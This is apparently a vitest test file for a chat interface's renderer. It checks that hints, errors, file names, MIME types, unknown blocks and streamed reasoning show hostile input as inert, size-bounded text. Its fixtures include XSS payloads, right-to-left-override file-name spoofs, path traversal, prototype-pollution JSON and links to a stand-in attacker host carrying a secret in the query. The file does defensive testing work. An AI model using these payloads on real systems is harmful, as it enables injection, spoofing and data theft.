/*
 * The other places content lands: hints and their sources, errors, file names, MIME types,
 * unknown blocks and reasoning. All text, never markup; names bidi-safe; sizes bounded.
 */
import type { ContentBlock, ErrorBlock, UnknownBlock } from '../../../src/core.js';
import { hintBlock } from '../../../src/core.js';
import { expect } from 'vitest';
import type { Case } from './case.js';
import {
  EVIL,
  PNG,
  PWN,
  all,
  base64,
  done,
  live,
  media,
  nestedJson,
  textOf,
  thinking,
  url,
} from './case.js';

const RLO = '\u202E';
const hint = (value: Parameters<typeof hintBlock>[0], source: string | null = null) =>
  hintBlock(value, { id: 'h1', source, created_at: '2026-09-01T12:00:00.000000' });
const error = (init: Partial<ErrorBlock>): ErrorBlock => ({
  type: 'error',
  id: 'e1',
  message: '',
  ...init,
});
const unknown = (originalType: string | null, raw: unknown): UnknownBlock =>
  ({ type: 'unknown', id: 'u1', original_type: originalType, raw }) as UnknownBlock;
const file = (name: string, mediaType = 'application/pdf') =>
  media(url(`https://files.example.com/f`, mediaType), { name });
const reasoning = (root: HTMLElement) =>
  textOf(root.querySelector('[data-slot="thinking-block-text"]') ?? root);

export const blockCases: Case[] = [
  {
    name: 'hint text with markup',
    where: 'hint',
    message: () => done(hint(`<script>${PWN}</script><img src=x onerror=${PWN}>`)),
    shows: ['<script>'],
  },
  {
    name: 'hint text with a bidi override and tag characters',
    where: 'hint',
    message: () => done(hint(`Approved by ${RLO}nimda${String.fromCodePoint(0xe0041)}`)),
    shows: ['[U+202E]', '[U+E0041]'],
  },
  {
    name: 'hint data item pointing at an attacker is never fetched',
    where: 'hint',
    message: () =>
      done(
        hint([
          {
            type: 'data',
            id: 'x',
            source: url(`https://${EVIL}/?q=SECRET`, 'image/png'),
            name: 'a.png',
            created_at: '',
            finished_at: '',
          },
        ] as never),
      ),
    check(root) {
      expect(all(root, 'img')).toHaveLength(0);
    },
  },
  {
    name: 'hint source JSON with markup in its label',
    where: 'hint-source',
    message: () =>
      done(
        hint('note', JSON.stringify({ label: `<img src=x onerror=${PWN}>`, sublabel: '<b>x</b>' })),
      ),
    shows: ['<img src=x onerror='],
  },
  {
    name: 'hint source posing as the system, reversed',
    where: 'hint-source',
    message: () => done(hint('note', `${RLO}metsyS`)),
    shows: ['[U+202E]metsyS'],
  },
  {
    name: 'a 1 MB hint source is cut',
    where: 'hint-source',
    message: () => done(hint('note', 'S'.repeat(1_000_000))),
    check(root) {
      expect(textOf(root).length).toBeLessThan(5_000);
    },
  },
  {
    name: 'error message with markup and a bidi code',
    where: 'error',
    message: () => done(error({ message: `<img src=x onerror=${PWN}>`, code: `E${RLO}1` })),
    shows: ['<img src=x onerror=', 'E[U+202E]1'],
  },
  {
    name: 'error data nested 10,000 levels',
    where: 'error',
    message: () => done(error({ message: 'boom', data: JSON.parse(nestedJson(10_000)) })),
    shows: ['boom'],
  },
  {
    name: 'error message of 1,000,000 lines',
    where: 'error',
    message: () => done(error({ message: 'line\n'.repeat(1_000_000) })),
    shows: ['Show all'],
  },
  {
    name: 'file name with a right-to-left override (invoice‮fdp.exe)',
    where: 'file-name',
    message: () => done(file(`invoice${RLO}fdp.exe`)),
    shows: ['invoice[U+202E]fdp.exe'],
  },
  {
    name: 'file name with path traversal and markup',
    where: 'file-name',
    message: () => done(file(`../../<img src=x onerror=${PWN}>.pdf`)),
    check(root) {
      const download = root.querySelector('a[download]');
      expect(download?.getAttribute('download') ?? '').not.toMatch(/[/\\<>]/);
    },
  },
  {
    name: 'file name with tag characters and zero-width spaces',
    where: 'file-name',
    message: () => done(file(`report\u200B.pdf${String.fromCodePoint(0xe0065)}`)),
    shows: ['report[U+200B].pdf[U+E0065]'],
  },
  {
    name: 'a 100,000-character file name keeps its extension visible',
    where: 'file-name',
    message: () => done(file(`${'a'.repeat(100_000)}.pdf.exe`)),
    shows: ['.pdf.exe'],
    check(root) {
      expect(textOf(root).length).toBeLessThan(5_000);
    },
  },
  {
    name: 'MIME type text/html in base64 is a download card',
    where: 'mime-type',
    message: () =>
      done(media(base64(btoa(`<script>${PWN}</script>`), 'text/html'), { name: 'x.html' })),
    check(root) {
      expect(all(root, 'iframe')).toHaveLength(0);
    },
  },
  {
    name: 'MIME type image/svg+xml from a URL waits for a click like any image',
    where: 'mime-type',
    message: () => done(media(url(`https://${EVIL}/x.svg`, 'image/svg+xml'))),
    shows: [`Load from ${EVIL}`],
  },
  {
    name: 'MIME type with parameters, case and markup',
    where: 'mime-type',
    message: () =>
      done(media(base64(PNG, `IMAGE/PNG; x="<script>${PWN}</script>"`), { name: 'dot.png' })),
    check(root) {
      expect(textOf(root)).not.toContain('<script>');
    },
  },
  {
    name: 'MIME type with a NUL and an executable type',
    where: 'mime-type',
    message: () =>
      done(
        media(base64(PNG, 'image/png\u0000text/html'), { name: 'a' }),
        media(url(`https://${EVIL}/setup.exe`, 'application/x-msdownload'), { name: 'setup.exe' }),
      ),
    check(root) {
      expect(all(root, 'iframe, object, embed')).toHaveLength(0);
    },
  },
  {
    name: 'empty and missing MIME types',
    where: 'mime-type',
    message: () =>
      done(
        media(url(`https://${EVIL}/x`, '')),
        media({ type: 'url', url: `https://${EVIL}/y` } as never),
      ),
  },
  {
    name: 'unknown block with markup in its JSON and type',
    where: 'unknown',
    message: () => done(unknown(`<img src=x onerror=${PWN}>`, { html: `<script>${PWN}</script>` })),
    shows: ['<img src=x onerror='],
  },
  {
    name: 'unknown block type with a bidi override',
    where: 'unknown',
    message: () => done(unknown(`widget${RLO}exe.`, { x: `a${RLO}b` })),
    shows: ['widget[U+202E]exe.', 'a[U+202E]b'],
  },
  {
    name: 'unknown block nested 10,000 levels',
    where: 'unknown',
    message: () => done(unknown('deep', JSON.parse(nestedJson(10_000)))),
  },
  {
    name: 'unknown block with __proto__ and constructor keys',
    where: 'unknown',
    message: () =>
      done(
        unknown(
          'odd',
          JSON.parse('{"__proto__":{"polluted":1},"constructor":{"prototype":{"isAdmin":1}}}'),
        ),
      ),
    shows: ['"__proto__"'],
  },
  {
    name: 'a block of an impossible type',
    where: 'unknown',
    message: () => done({ type: `<script>${PWN}</script>`, id: 'z' } as unknown as ContentBlock),
  },
  {
    name: 'reasoning with markup',
    where: 'thinking',
    message: () =>
      live(thinking(`<script>${PWN}</script> **not bold** ![](https://${EVIL}/x)`, true)),
    shows: ['<script>', '**not bold**'],
  },
  {
    name: '1,000,000 lines of reasoning while it streams',
    where: 'thinking',
    message: () => live(thinking('l\n'.repeat(1_000_000), true)),
    check(root) {
      expect(reasoning(root).length).toBeLessThan(60_000);
    },
  },
  {
    name: '10 MB of reasoning in one line while it streams',
    where: 'thinking',
    message: () => live(thinking('x'.repeat(10_000_000), true)),
    shows: ['Show all'],
  },
];
